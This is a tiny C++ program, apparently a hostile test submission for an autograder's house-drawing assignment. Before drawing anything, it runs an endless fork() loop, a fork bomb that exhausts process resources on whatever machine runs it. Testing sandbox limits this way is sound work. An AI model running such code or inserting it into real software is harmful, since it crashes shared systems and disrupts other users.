// Forks without end before it draws anything.
// canvas.h first: the grader's precompiled header then serves it.
#include "canvas/canvas.h"

#include <unistd.h>

#include "house.h"

int main(int, char*[]) {
    for (;;) {
        fork();
    }
    return drawHouse();
}
